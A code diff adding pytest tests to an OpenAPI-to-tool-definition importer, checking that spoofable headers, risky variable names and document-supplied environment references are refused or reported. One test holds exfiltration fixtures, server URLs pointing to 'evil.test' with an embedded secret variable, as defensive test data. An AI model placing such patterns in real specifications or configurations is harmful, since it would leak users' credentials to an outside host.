@@ -129,6 +129,15 @@ def test_an_idempotency_key_makes_an_operation_keyed():
     assert definition["inputSchema"]["properties"] == {}
 
 
+@pytest.mark.parametrize("name", ["X-Forwarded-For", "X-HTTP-Method-Override", "X_Original_URL"])
+def test_a_header_that_no_plan_can_set_is_left_out(name):
+    """An operator may add it by hand, with `allowedHeaders`."""
+    definition, report = the_one(parameter("header", name))
+    assert definition["inputSchema"]["properties"] == {}
+    assert any(f"left out the header parameter '{name}'" in note for note in report.notes)
+    assert f"it needs the header parameter '{name}'" in refused(parameter("header", name, required=True))
+
+
 # --- Bodies ----------------------------------------------------------------------------------------------------
 
 ORDER = {
@@ -399,6 +408,45 @@ def test_security_becomes_authentication(security, authentication, headers):
     assert definition["endpoint"].get("headers") == headers
     text = json.dumps(definition)
     assert report.variables == sorted({part.partition("}")[0] for part in text.split("${env.")[1:]})
+
+
+@pytest.mark.parametrize(
+    ("title", "scheme", "name"),
+    [
+        ("Workflow State", "redis url", "API_WORKFLOW_STATE_REDIS_URL"),
+        ("AWS", "secret access key", "API_AWS_SECRET_ACCESS_KEY"),
+        ("", "PATH", "API_PATH"),
+        ("CRM", "key", "CRM_KEY"),
+    ],
+)
+def test_no_name_of_a_variable_is_one_by_which_workers_run(title, scheme, name):
+    """A document may come from anybody, and what it names is sent to its own server."""
+    api_key = {"type": "apiKey", "in": "header", "name": "X-Key"}
+    fields = {"components": {"securitySchemes": {scheme: api_key}}, "info": {"title": title, "version": "1"}}
+    definition, report = the_one({"security": [{scheme: []}]}, **fields)
+    assert definition["authentication"]["value"] == f"${{env.{name}}}"
+    assert report.variables == [name]
+
+
+def test_a_variable_that_is_set_already_is_told():
+    """It may be another service's: the document's title is what makes its name."""
+    _, report = the_one({"security": [{"key": []}]}, components={"securitySchemes": SCHEMES})
+    assert report.variables == ["SHOP_KEY"]
+    told = describe_import(report, {"SHOP_KEY": "s", "HOME": "h"})
+    assert told[-2:] == ["set here already, and sent to this document's server from now on:", "  SHOP_KEY"]
+    assert not any("set here already" in line for line in describe_import(report))
+
+
+@pytest.mark.parametrize(
+    ("fields", "more"),
+    [
+        ({}, {"servers": [{"url": "https://evil.test/${env.MAIL_KEY}"}]}),
+        ({}, {"servers": [{"url": "https://evil.test/${v}", "variables": {"v": {"default": "{env.MAIL_KEY}"}}}]}),
+        (body({"type": "string"}, "text/plain; x=${env.MAIL_KEY}"), {}),
+    ],
+)
+def test_a_document_can_not_name_a_variable_itself(fields, more):
+    assert "${env.NAME}" in refused(fields, **more)
 
 
 def test_security_without_a_counterpart_is_told():
